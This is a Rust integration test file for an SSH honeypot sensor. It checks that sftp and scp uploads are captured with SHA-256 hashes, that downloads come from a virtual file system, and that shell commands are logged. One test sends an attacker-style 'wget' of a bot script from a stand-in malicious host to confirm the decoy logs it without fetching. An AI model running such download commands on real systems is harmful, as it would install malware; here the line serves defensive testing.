//! File transfer on the SSH decoy with OpenSSH's own clients: `sftp put` and `scp` (modern
//! SFTP mode and legacy `-O`) uploads become `ssh.upload` events with the right SHA-256 and a
//! kept copy equal to the file; `sftp ls`/`get` and `scp -O` downloads see the shell's
//! virtual file system. Every client runs under a time limit.

mod harness;

use std::{os::unix::fs::PermissionsExt as _, path::Path, time::Duration};

use harness::{Harness, run};
use sensor::event::{Action, Event, Service};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

const LIMIT: Duration = Duration::from_secs(30);

fn ssh_config() -> Value {
    json!({"port": 0, "auth_failure_delay_ms": 50, "users": {"bob": "Spring2025"}})
}

/// Options for `sftp`/`scp`/`ssh`: no host key prompt, no keys, password only.
fn opts(dir: &Path) -> Vec<String> {
    [
        "-o",
        "StrictHostKeyChecking=no",
        "-o",
        &format!("UserKnownHostsFile={}", dir.join("known_hosts").display()),
        "-o",
        "IdentitiesOnly=yes",
        "-o",
        "IdentityFile=/nonexistent",
        "-o",
        "PubkeyAuthentication=no",
        "-o",
        "ConnectTimeout=10",
        // `sftp -b` turns BatchMode on, which forbids the password sshpass types.
        "-o",
        "BatchMode=no",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect()
}

/// Runs `program` (`sftp`, `scp`, `ssh`) under sshpass with `args` after the common options.
async fn client(program: &str, dir: &Path, args: &[String]) -> std::process::Output {
    let mut all: Vec<String> = vec!["-p".into(), "Spring2025".into(), program.into()];
    all.extend(opts(dir));
    all.extend(args.iter().cloned());
    let all: Vec<&str> = all.iter().map(String::as_str).collect();
    run("sshpass", &all, &[], LIMIT).await
}

/// Runs `sftp -b` with `script` as bob on `port`; asserts it succeeded and returns its output.
async fn sftp_batch(port: &str, dir: &Path, script: &str) -> String {
    let batch = dir.join("batch");
    std::fs::write(&batch, script).expect("write the batch file");
    let args: Vec<String> = [
        "-P",
        port,
        "-b",
        batch.to_str().expect("a UTF-8 path"),
        "bob@127.0.0.1",
    ]
    .map(str::to_owned)
    .to_vec();
    let out = client("sftp", dir, &args).await;
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    stdout
}

fn sha256(data: &[u8]) -> String {
    hex::encode(Sha256::digest(data))
}

/// The one upload event among `events`, checked against `content`; returns it.
fn check_upload<'a>(events: &'a [Event], path: &str, content: &[u8], state: &Path) -> &'a Event {
    let uploads: Vec<&Event> = events
        .iter()
        .filter(|e| e.service == Service::Ssh && e.action == Action::Upload)
        .collect();
    assert_eq!(uploads.len(), 1, "{uploads:?}");
    let up = uploads[0];
    let sha = sha256(content);
    assert_eq!(up.extra["path"], json!(path));
    assert_eq!(up.extra["username"], json!("bob"));
    assert_eq!(up.extra["size"], json!(content.len()));
    assert_eq!(up.extra["sha256"], json!(sha));
    assert_eq!(up.extra["truncated"], json!(false));
    assert_eq!(up.extra["complete"], json!(true));
    let kept = state.join("ssh-uploads").join(&sha);
    assert_eq!(up.extra["stored"], json!(kept.display().to_string()));
    assert_eq!(std::fs::read(&kept).expect("the kept copy"), content);
    let mode = std::fs::metadata(&kept)
        .expect("the kept copy")
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);
    up
}

#[tokio::test(flavor = "multi_thread")]
async fn sftp_put_is_captured_with_its_sha256_and_kept() {
    let mut h = Harness::start(json!({"ssh": [ssh_config()]}), json!({})).await;
    let port = h.addr(Service::Ssh).port().to_string();
    let dir = harness::temp_dir("sftp-put");
    let content = harness::noise(100_000, 7);
    let local = dir.join("payload.bin");
    std::fs::write(&local, &content).unwrap();
    let script = format!("put {} /tmp/payload.bin\nls -l /tmp\n", local.display());
    let stdout = sftp_batch(&port, &dir, &script).await;
    // The listing after the upload shows it, as sftp-server's long names do.
    assert!(
        stdout.contains("-rw-r--r--    1 bob      bob        100000 Nov 22 10:04 payload.bin\n"),
        "{stdout}"
    );
    let events = h.until(Action::Upload, 1, LIMIT).await;
    let up = check_upload(&events, "/tmp/payload.bin", &content, &h.state);
    assert_eq!(up.extra["mode"], json!("sftp"));
    assert_eq!(&up.data[..], &content[..up.data.len()]);
    let subsystem = events
        .iter()
        .find(|e| e.extra.get("mode") == Some(&json!("subsystem")))
        .expect("the subsystem request is logged");
    assert_eq!(subsystem.extra["command"], json!("sftp"));
    let open = events
        .iter()
        .find(|e| e.extra.get("command") == Some(&json!("open")))
        .expect("the open is logged");
    assert_eq!(open.extra["path"], json!("/tmp/payload.bin"));
    assert_eq!(open.extra["flags"], json!("write"));
    h.stop().await;
    let _ = std::fs::remove_dir_all(dir);
}

#[tokio::test(flavor = "multi_thread")]
async fn scp_uploads_are_captured_over_sftp_and_the_legacy_protocol() {
    let mut h = Harness::start(json!({"ssh": [ssh_config()]}), json!({})).await;
    let port = h.addr(Service::Ssh).port().to_string();
    let dir = harness::temp_dir("scp-put");
    for (seed, flag, mode) in [(11, None, "sftp"), (12, Some("-O"), "scp")] {
        let content = harness::noise(50_000, seed);
        let name = format!("up-{mode}.bin");
        let local = dir.join(&name);
        std::fs::write(&local, &content).unwrap();
        let mut args: Vec<String> = flag.map(str::to_owned).into_iter().collect();
        args.extend(
            ["-P", &port, local.to_str().unwrap(), "bob@127.0.0.1:/tmp/"].map(str::to_owned),
        );
        let out = client("scp", &dir, &args).await;
        assert!(
            out.status.success(),
            "{mode}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let events = h.until(Action::Upload, 1, LIMIT).await;
        let up = check_upload(&events, &format!("/tmp/{name}"), &content, &h.state);
        assert_eq!(up.extra["mode"], json!(mode));
        if mode == "scp" {
            let exec = events
                .iter()
                .find(|e| e.extra.get("mode") == Some(&json!("exec")))
                .expect("the scp command is logged");
            assert_eq!(exec.extra["command"], json!("scp -t /tmp/"));
        }
    }
    // Legacy download (`scp -f`) of a file of the virtual file system.
    let got = dir.join("hostname");
    let args: Vec<String> = [
        "-O",
        "-P",
        &port,
        "bob@127.0.0.1:/etc/hostname",
        got.to_str().unwrap(),
    ]
    .map(str::to_owned)
    .to_vec();
    let out = client("scp", &dir, &args).await;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(std::fs::read(&got).unwrap(), b"srv01\n");
    // A refused target: OpenSSH's message, scp's failure status.
    let args: Vec<String> = [
        "-O",
        "-P",
        &port,
        dir.join("up-scp.bin").to_str().unwrap(),
        "bob@127.0.0.1:/etc/",
    ]
    .map(str::to_owned)
    .to_vec();
    let out = client("scp", &dir, &args).await;
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("scp: /etc/up-scp.bin: Permission denied"),
        "{stderr}"
    );
    h.stop().await;
    let _ = std::fs::remove_dir_all(dir);
}

#[tokio::test(flavor = "multi_thread")]
async fn sftp_ls_and_get_serve_the_virtual_file_system() {
    let mut h = Harness::start(json!({"ssh": [ssh_config()]}), json!({})).await;
    let port = h.addr(Service::Ssh).port().to_string();
    let dir = harness::temp_dir("sftp-get");
    let script = format!(
        "pwd\nls -la /home/bob\nget /etc/hostname {d}/hostname\nget /proc/self/exe {d}/exe\n",
        d = dir.display()
    );
    let stdout = sftp_batch(&port, &dir, &script).await;
    assert!(
        stdout.contains("Remote working directory: /home/bob\n"),
        "{stdout}"
    );
    assert!(
        stdout.contains(
            "drwx------    2 bob      bob          4096 Nov 22 10:04 .\n\
             drwxr-xr-x    2 root     root         4096 Nov 22 10:04 ..\n\
             -rw-r--r--    1 bob      bob           178 Nov 22 10:04 .bashrc\n\
             -rw-r--r--    1 bob      bob           166 Nov 22 10:04 .profile\n"
        ),
        "{stdout}"
    );
    assert_eq!(std::fs::read(dir.join("hostname")).unwrap(), b"srv01\n");
    let exe = std::fs::read(dir.join("exe")).unwrap();
    assert!(exe.starts_with(b"\x7fELF\x02\x01\x01"), "{exe:?}");
    let events = h.drain(Duration::from_millis(500), LIMIT).await;
    let opened: Vec<(&str, &str)> = events
        .iter()
        .filter(|e| e.extra.get("command") == Some(&json!("open")))
        .map(|e| {
            (
                e.extra["path"].as_str().unwrap(),
                e.extra["flags"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        opened,
        [("/etc/hostname", "read"), ("/proc/self/exe", "read")]
    );
    assert!(events.iter().all(|e| e.action != Action::Upload));
    h.stop().await;
    let _ = std::fs::remove_dir_all(dir);
}

#[tokio::test(flavor = "multi_thread")]
async fn wget_in_the_shell_is_logged_and_never_fetched() {
    let mut h = Harness::start(json!({"ssh": [ssh_config()]}), json!({})).await;
    let port = h.addr(Service::Ssh).port().to_string();
    let dir = harness::temp_dir("ssh-wget");
    let args: Vec<String> = [
        "-p",
        &port,
        "bob@127.0.0.1",
        "cd /tmp; wget http://bad.example.net/bot.sh -O b.sh",
    ]
    .map(str::to_owned)
    .to_vec();
    let out = client("ssh", &dir, &args).await;
    assert_eq!(out.status.code(), Some(4));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains(
            "Resolving bad.example.net (bad.example.net)... failed: Temporary failure in name resolution.\nwget: unable to resolve host address ‘bad.example.net’\n"
        ),
        "{stdout}"
    );
    let events = h.until(Action::Query, 2, LIMIT).await;
    let download = events
        .iter()
        .find(|e| e.extra.get("mode") == Some(&json!("download")))
        .expect("the download is logged");
    assert_eq!(download.extra["command"], json!("wget"));
    assert_eq!(
        download.extra["url"],
        json!("http://bad.example.net/bot.sh")
    );
    h.stop().await;
    let _ = std::fs::remove_dir_all(dir);
}
